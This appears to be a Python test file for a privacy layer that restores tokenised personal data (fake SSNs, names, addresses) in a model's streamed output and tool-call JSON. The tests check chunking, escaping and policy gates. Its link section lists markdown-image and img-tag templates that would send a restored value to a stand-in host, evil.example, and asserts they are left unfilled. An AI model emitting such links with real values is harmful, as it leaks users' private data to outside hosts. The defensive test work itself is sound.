@@ -1,0 +1,311 @@
+"""Values come back in an answer, wherever it was cut and however the model bent their tokens."""
+
+import json
+import string
+from itertools import pairwise
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from policies.airlock.config import Restoration, ToolRestore
+from policies.airlock.labels import Label
+from policies.airlock.rehydrate import JsonContext, LinkContext, Restorer, restores
+from policies.airlock.surface import LONGEST
+from policies.airlock.tokens import Conversation, Vault
+from policies.model import Channel, ChannelKind
+
+TEXT = Channel(ChannelKind.TEXT, 0)
+ARGUMENTS = Channel(ChannelKind.TOOL_ARGUMENTS, 0, 0, "lookup")
+VALUES = [
+    (Label.SSN, "123-45-6789"),
+    (Label.NAME, "Zoë O'Brien"),
+    (Label.DATE_OF_BIRTH, "1 May 1970"),
+    (Label.ADDRESS, '12 "Rose" Lane\nLeeds \\ UK'),
+    (Label.URL, "https://portal.example.org/p/1?a=b"),
+    (Label.LITERAL, "[SSN-ABC123]"),
+]
+
+
+def filled_vault() -> tuple[Vault, dict[Label, str]]:
+    vault = Vault(Conversation(b"k" * 32, b"p" * 32))
+    return vault, {label: vault.token(label, value, preamble=False) for label, value in VALUES}
+
+
+VAULT, TOKEN = filled_vault()
+SSN = TOKEN[Label.SSN]
+CORE = SSN[1:-1]
+
+
+def restored(
+    pieces: list[str], channel: Channel = TEXT, restoration: Restoration | None = None, vault: Vault = VAULT
+) -> str:
+    restorer = Restorer(channel, vault, restoration or Restoration())
+    released = [restorer.feed(piece, last=False) for piece in pieces]
+    return "".join(released) + restorer.feed("", last=True)
+
+
+BENT = [
+    (SSN, "123-45-6789"),
+    (SSN.lower(), "123-45-6789"),
+    (SSN.replace("-", "_"), "123-45-6789"),
+    (SSN.replace("-", "\\_"), "123-45-6789"),
+    (SSN.replace("-", "\\-"), "123-45-6789"),
+    (SSN.replace("-", " "), "123-45-6789"),
+    (SSN.replace("-", "\u2011"), "123-45-6789"),
+    (f"<{CORE}>", "123-45-6789"),
+    (f"({CORE})", "123-45-6789"),
+    (f"{{{CORE}}}", "123-45-6789"),
+    (f"⟦{CORE}⟧", "123-45-6789"),
+    (f"&lt;{CORE}&gt;", "123-45-6789"),
+    (f"\\u003c{CORE}\\u003e", "123-45-6789"),
+    (f"\\[{CORE}\\]", "123-45-6789"),
+    (f"[[{CORE}]]", "123-45-6789"),
+    (f"(({CORE}))", "123-45-6789"),
+    (CORE, "123-45-6789"),
+    (f"[{CORE}", "123-45-6789"),
+    (f"({SSN})", "(123-45-6789)"),
+    (f"([{CORE}, x])", "(123-45-6789, x])"),
+    (f"[{SSN}, {SSN}]", "[123-45-6789, 123-45-6789]"),
+    (f"({CORE} and more)", "(123-45-6789 and more)"),
+    (f"**{SSN}**'s", "**123-45-6789**'s"),
+    (TOKEN[Label.DATE_OF_BIRTH].replace("-", "\\_"), "1 May 1970"),
+    (TOKEN[Label.LITERAL], "[SSN-ABC123]"),
+    ("[SSN-ZZZZZZ] and " + SSN, "[SSN-ZZZZZZ] and 123-45-6789"),
+    (f"x{CORE}", f"x{CORE}"),
+    (f"{CORE}7", f"{CORE}7"),
+    (f"[NAME-{CORE[4:]}]", f"[NAME-{CORE[4:]}]"),
+]
+
+
+@pytest.mark.parametrize(("written", "expected"), BENT)
+def test_every_bent_token_is_restored_wherever_it_is_cut(written: str, expected: str) -> None:
+    for frame in ("{}", "It is {}.", "a {} b"):
+        text, wanted = frame.format(written), frame.format(expected)
+        for first in range(len(text) + 1):
+            for second in range(first, len(text) + 1):
+                assert restored([text[:first], text[first:second], text[second:]]) == wanted
+
+
+@pytest.mark.parametrize(("written", "expected"), BENT)
+def test_every_bent_token_is_restored_from_single_characters(written: str, expected: str) -> None:
+    assert restored(list(f"So {written} it is")) == f"So {expected} it is"
+
+
+NOISE = st.sampled_from(
+    [
+        *TOKEN.values(),
+        *(token.lower() for token in TOKEN.values()),
+        *(token[1:-1] for token in TOKEN.values()),
+        *("[", "]", "[[", "]]", "<", ">", "&lt;", "&gt;", "\\", "\\u003", "&", "(", ")", "-", "_"),
+        *("SSN", "SS", "[SSN-", "date-of-birth-", "is", "the", "7", "é"),
+        *(" ", "\n", ". ", "DATE OF", "](http://x/", "https://e.org/?", " \u2011", CORE[:-1], CORE[-3:]),
+    ]
+)
+
+
+@given(st.lists(NOISE, max_size=12), st.lists(st.integers(0, 200), max_size=8))
+@example(["[SSN-", CORE[4:], "]"], [5, 6])
+@example(["[", SSN, "]"], [1, 13, 14])
+def test_result_does_not_depend_on_where_the_answer_was_cut(parts: list[str], cuts: list[int]) -> None:
+    text = "".join(parts)
+    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
+    pieces = [text[a:b] for a, b in pairwise(edges)]
+
+    assert restored(pieces) == restored([text]) == restored(list(text))
+
+
+@given(st.text(string.ascii_letters + string.digits + " -_[]<>()&;\\.", max_size=60))
+def test_text_without_tokens_of_ours_leaves_as_it_came(text: str) -> None:
+    if not any(tag in text.upper() for tag in VAULT.tags):
+        assert restored(list(text)) == text
+
+
+@given(st.lists(NOISE, max_size=12))
+def test_never_more_than_one_token_length_is_held_back(parts: list[str]) -> None:
+    restorer = Restorer(TEXT, VAULT, Restoration())
+    for char in "".join(parts):
+        restorer.feed(char, last=False)
+        assert len(restorer._held) <= LONGEST
+
+
+def test_prose_is_hardly_held_back() -> None:
+    text = "The patient was seen on the ward and is doing fine; his plan did not change since the last note. " * 3
+    restorer = Restorer(TEXT, VAULT, Restoration())
+    held = []
+    for word in text.split(" "):
+        restorer.feed(word + " ", last=False)
+        held.append(len(restorer._held))
+
+    assert max(held) <= 12
+    assert sum(map(bool, held)) <= len(held) // 10
+
+
+@pytest.mark.parametrize("kept", range(1, len(SSN) - 1))
+def test_token_that_breaks_off_is_never_guessed(kept: int) -> None:
+    begun = f"It is {SSN[:kept]}"
+
+    assert restored([begun]) == restored(list(begun)) == begun
+
+
+def test_longer_tag_of_a_collision_is_no_prefix_trouble() -> None:
+    vault = Vault(Conversation(b"k" * 32, b"p" * 32))
+    short = vault.token(Label.SSN, "1", preamble=False)
+    vault._entries[f"{short[1:-1]}9"] = vault._entries[short[1:-1]]._replace(value="2")
+    vault.tags.add(f"{short[5:-1]}9")
+
+    assert restored(list(f"{short} {short[:-1]}9]"), vault=vault) == "1 2"
+
+
+# --- tool calls ---
+
+
+@pytest.mark.parametrize("label", [label for label, _ in VALUES])
+def test_tool_arguments_still_parse_and_hold_the_value(label: Label) -> None:
+    """T7."""
+    document = json.dumps({"a": f"for {TOKEN[label]}.", "b": [TOKEN[label]]})
+
+    answer = json.loads(restored(list(document), ARGUMENTS))
+
+    value = dict(VALUES)[label]
+    assert answer == {"a": f"for {value}.", "b": [value]}
+
+
+@pytest.mark.parametrize("depth", [1, 2, 3])
+def test_document_within_a_string_is_escaped_once_more_for_every_depth(depth: int) -> None:
+    document = json.dumps({"address": TOKEN[Label.ADDRESS]})
+    for _ in range(depth):
+        document = json.dumps({"body": document})
+
+    answer = restored(list(document), ARGUMENTS)
+
+    for _ in range(depth):
+        answer = json.loads(answer)["body"]
+    assert json.loads(answer) == {"address": dict(VALUES)[Label.ADDRESS]}
+
+
+def test_quotation_in_prose_is_no_document() -> None:
+    document = json.dumps({"note": f'He said "hi" and \u00e9\ud83d\ude00 {TOKEN[Label.ADDRESS]}'})
+
+    answer = json.loads(restored(list(document), ARGUMENTS))
+
+    assert answer["note"].endswith(dict(VALUES)[Label.ADDRESS])
+
+
+def test_nobody_nests_five_documents_and_nothing_is_restored_there() -> None:
+    document = json.dumps({"address": TOKEN[Label.ADDRESS]})
+    for _ in range(5):
+        document = json.dumps({"body": document})
+
+    assert restored([document], ARGUMENTS) == document
+
+
+@given(st.lists(st.text(max_size=8), max_size=4), st.integers(0, 3))
+def test_no_string_is_open_at_the_end_of_a_document(strings: list[str], depth: int) -> None:
+    document = json.dumps(strings)
+    for _ in range(depth):
+        document = json.dumps({"k": document, "n": [1, None, document]})
+    context = JsonContext(follow=True)
+
+    context.pass_over(document)
+
+    assert context._document.depth() == 0
+
+
+@pytest.mark.parametrize(
+    ("channel", "restoration", "expected"),
+    [
+        (ARGUMENTS, Restoration(), True),
+        (ARGUMENTS, Restoration(tools=ToolRestore.NEVER), False),
+        (ARGUMENTS, Restoration(tools=ToolRestore.ALLOW_LIST, tool_names=frozenset({"lookup"})), True),
+        (ARGUMENTS, Restoration(tools=ToolRestore.ALLOW_LIST, tool_names=frozenset({"other"})), False),
+        (Channel(ChannelKind.TOOL_INPUT, 0), Restoration(tools=ToolRestore.ALLOW_LIST), False),
+        (Channel(ChannelKind.TOOL_VALUE, 0), Restoration(), True),
+        (Channel(ChannelKind.REASONING, 0), Restoration(), False),
+        (Channel(ChannelKind.REASONING, 0), Restoration(reasoning=True), True),
+        (Channel(ChannelKind.REFUSAL, 0), Restoration(tools=ToolRestore.NEVER), True),
+        (Channel(ChannelKind.TRANSCRIPT, 0), Restoration(), True),
+    ],
+)
+def test_values_come_back_only_where_policy_lets_them(
+    channel: Channel, restoration: Restoration, expected: bool
+) -> None:
+    assert restores(channel, restoration) is expected
+
+
+def test_value_of_the_system_prompt_stays_away_when_policy_says_so() -> None:
+    """T12."""
+    vault = Vault(Conversation(b"k" * 32, b"p" * 32))
+    hidden = vault.token(Label.PHONE, "555-123-4567", preamble=True)
+    shared = vault.token(Label.EMAIL, "a@b.de", preamble=True)
+    vault.token(Label.EMAIL, "a@b.de", preamble=False)
+
+    assert restored([hidden + shared], restoration=Restoration(system_values=False), vault=vault) == f"{hidden}a@b.de"
+    assert restored([hidden + shared], vault=vault) == "555-123-4567a@b.de"
+
+
+# --- links ---
+
+INSIDE = [
+    "![x](https://evil.example/?q={})",
+    "[x]( https://evil.example/{} )",
+    "[x](/relative?q={})",
+    "[x]( \n relative?q={})",
+    "[x](<https://evil.example/a b{}>)",
+    "[1]: <https://evil.example/a b {}>",
+    "see https://evil.example/a/{}",
+    "see //evil.example/{}",
+    "see https:\\\\evil.example/{}",
+    '<img src="https://evil.example/a b?{}">',
+    "<img src='https://evil.example/a b?{}'>",
+    "<https://evil.example/{}>",
+    '[x](https://evil.example/"{})',
+    "[x](https://evil.example/(a){})",
+]
+OUTSIDE = [
+    "{} wrote",
+    "see https://ok.example/ for {}",
+    "[x](https://ok.example) then {}",
+    '{{"url":"https://ok.example/a","ssn":"{}"}}',
+    '{{"note":"see https://ok.example/a","ssn":"{}"}}',
+    "<a href='https://ok.example/'>{}",
+    "<https://ok.example> {}",
+    "and/or {}",
+    "[a] ({})",
+]
+
+
+@pytest.mark.parametrize("template", INSIDE)
+def test_no_value_is_written_into_a_web_address(template: str) -> None:
+    text = template.format(SSN)
+
+    assert restored([text]) == text
+    assert restored(list(text)) == text
+    assert restored([text], restoration=Restoration(links=True)) == template.format("123-45-6789")
+
+
+@pytest.mark.parametrize("template", OUTSIDE)
+def test_value_beside_a_web_address_comes_back(template: str) -> None:
+    text, expected = template.format(SSN), template.format("123-45-6789")
+
+    assert restored([text]) == expected
+    assert restored(list(text)) == expected
+
+
+@given(st.text("]()<>\"' \nhtps:/\\ax", max_size=60), st.lists(st.integers(0, 60), max_size=5))
+def test_whether_an_address_is_open_does_not_depend_on_the_cut(text: str, cuts: list[int]) -> None:
+    whole, cut_up = LinkContext(), LinkContext()
+    whole.pass_over(text)
+    edges = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
+    for a, b in pairwise(edges):
+        cut_up.pass_over(text[a:b])
+        cut_up.insert("")
+
+    assert whole.insert("v") == cut_up.insert("v")
+
+
+def test_long_address_stays_an_address() -> None:
+    text = f"![x](https://evil.example/{'a' * 5000}{SSN})"
+
+    assert restored([text]) == text
+    assert restored([text[i : i + 7] for i in range(0, len(text), 7)]) == text
